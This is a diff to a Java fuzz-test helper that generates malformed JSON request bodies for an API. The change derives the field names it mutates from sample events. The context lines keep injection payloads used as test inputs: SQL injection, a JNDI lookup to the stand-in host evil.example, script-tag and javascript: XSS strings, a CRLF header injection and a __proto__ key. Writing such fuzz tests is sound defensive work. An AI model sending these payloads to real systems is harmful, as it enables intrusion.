@@ -22,15 +22,25 @@ final class HostileBodies {
             "' OR 1=1 --", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "=1+1", "a".repeat(300), "😀".repeat(50), "a".repeat(10_001), "PROFILE", "POST#", "THREAD#" + ULID,
             "__proto__", "9999999999999#" + ULID, "0#0000000000000#" + ULID, "2026-13", "0000-00", "2026-11-31T00:00:00Z", "+292278994-08-17T07:12:55.807Z", "9999-12-31T23:59:59Z",
             "25:61", "javascript:alert(1)", "https://", "http://[::1", "MEMBER#" + ULID, "crisis", "\r\nX-Hearth: 1", "12:00", "2026-11-23", "a,b,,c", "e\u0301\u0301\u0301".repeat(40));
-    private static final List<String> FIELDS = List.of("text", "title", "version", "reason", "note", "action", "rule", "until", "name", "posts", "decisionId", "threadId", "postId",
-            "memberId", "contact", "tellMe", "anonymous", "quotes", "labels", "reply", "start", "end", "weeks", "moderatorId", "filters", "mail", "revision", "groupId", "used", "window");
 
     private final Random random;
     private final Map<String, JsonNode> samples;
+    private final List<String> fields;
 
     private HostileBodies(Random random, Map<String, JsonNode> samples) {
         this.random = random;
         this.samples = samples;
+        this.fields = samples.values().stream().flatMap(sample -> names(sample).stream()).distinct().sorted().toList();
+    }
+
+    /** Of all fields of a body, those inside of others too. */
+    private static List<String> names(JsonNode body) {
+        List<String> names = new ArrayList<>();
+        body.properties().forEach(field -> {
+            names.add(field.getKey());
+            names.addAll(names(field.getValue()));
+        });
+        return names;
     }
 
     /** @param events the folder with a sample of each route's event */
@@ -80,7 +90,7 @@ final class HostileBodies {
         List<String> names = new ArrayList<>();
         object.fieldNames().forEachRemaining(names::add);
         if (names.isEmpty()) {
-            object.put(pick(FIELDS), odd());
+            object.put(pick(fields), odd());
             return;
         }
         String name = pick(names);
@@ -95,7 +105,7 @@ final class HostileBodies {
             case 3 -> object.put(name, random.nextLong());
             case 4 -> object.putArray(name).add(odd()).add(random.nextInt()).addNull();
             case 5 -> object.putObject(name).put(odd(), odd());
-            case 6 -> object.put(pick(FIELDS), odd());
+            case 6 -> object.put(pick(fields), odd());
             default -> object.set(name, JsonNodeFactory.instance.textNode(object.get(name).isTextual() && random.nextInt(4) == 0
                     ? object.get(name).asText() + odd() : odd()));
         }
@@ -107,9 +117,9 @@ final class HostileBodies {
 
     private String object(int depth) {
         StringBuilder object = new StringBuilder("{");
-        int fields = random.nextInt(6);
-        for (int i = 0; i < fields; i++) {
-            object.append(i == 0 ? "" : ",").append('"').append(random.nextInt(12) == 0 ? escaped(odd()) : pick(FIELDS)).append("\":").append(value(depth));
+        int size = random.nextInt(6);
+        for (int i = 0; i < size; i++) {
+            object.append(i == 0 ? "" : ",").append('"').append(random.nextInt(12) == 0 ? escaped(odd()) : pick(fields)).append("\":").append(value(depth));
         }
         return object.append('}').toString();
     }
